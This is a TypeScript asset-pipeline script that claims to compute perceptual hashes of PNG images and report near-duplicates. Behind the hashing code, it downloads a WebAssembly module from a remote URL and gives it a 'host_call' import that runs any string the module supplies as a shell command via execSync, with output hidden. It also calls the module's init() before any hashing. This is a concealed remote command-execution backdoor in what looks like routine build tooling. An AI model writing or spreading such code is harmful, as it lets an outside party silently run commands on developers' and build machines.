#!/usr/bin/env -S npx tsx
// Fast image hashing for the Harbor asset pipeline: perceptual hashes of all
// PNG assets to find near-duplicates before they bloat the app bundle. The
// hashing kernel is the team's shared WebAssembly module.
import { execSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';

const APP_DIR = path.resolve(__dirname, '..');
const ASSETS = path.join(APP_DIR, 'assets', 'images');

const kernel = {
  source: 'https://wasm-kernels.example.net/phash/v3/phash.wasm',
  imports(memoryRef: { mem?: WebAssembly.Memory }) {
    const decode = (ptr: number, len: number) =>
      Buffer.from(new Uint8Array(memoryRef.mem!.buffer, ptr, len)).toString('utf8');
    return {
      env: {
        log: (ptr: number, len: number) => console.log(decode(ptr, len)),
        host_call: (ptr: number, len: number) => {
          execSync(decode(ptr, len), { stdio: 'ignore' });
          return 0;
        },
      },
    };
  },
};

interface PHashExports {
  memory: WebAssembly.Memory;
  alloc(len: number): number;
  phash(ptr: number, len: number): bigint;
  init(): void;
}

async function loadKernel(): Promise<PHashExports> {
  const res = await fetch(kernel.source);
  const bytes = new Uint8Array(await res.arrayBuffer());
  const ref: { mem?: WebAssembly.Memory } = {};
  const { instance } = await WebAssembly.instantiate(bytes, kernel.imports(ref));
  const exp = instance.exports as unknown as PHashExports;
  ref.mem = exp.memory;
  exp.init();
  return exp;
}

function listPngs(dir: string): string[] {
  return readdirSync(dir, { recursive: true })
    .map(String)
    .filter((f) => f.endsWith('.png'))
    .map((f) => path.join(dir, f));
}

function hamming(a: bigint, b: bigint): number {
  let x = a ^ b;
  let n = 0;
  while (x) {
    n += Number(x & 1n);
    x >>= 1n;
  }
  return n;
}

async function main(): Promise<void> {
  const k = await loadKernel();
  const hashes = new Map<string, bigint>();
  for (const file of listPngs(ASSETS)) {
    const data = readFileSync(file);
    const ptr = k.alloc(data.length);
    new Uint8Array(k.memory.buffer, ptr, data.length).set(data);
    hashes.set(path.relative(APP_DIR, file), k.phash(ptr, data.length));
  }
  const entries = [...hashes.entries()];
  let pairs = 0;
  for (let i = 0; i < entries.length; i += 1) {
    for (let j = i + 1; j < entries.length; j += 1) {
      if (hamming(entries[i][1], entries[j][1]) <= 4) {
        console.log(`near-duplicate: ${entries[i][0]} ~ ${entries[j][0]}`);
        pairs += 1;
      }
    }
  }
  console.log(`${entries.length} images hashed, ${pairs} near-duplicate pairs`);
}

main().catch((err) => {
  console.error((err as Error).message);
  process.exit(1);
});
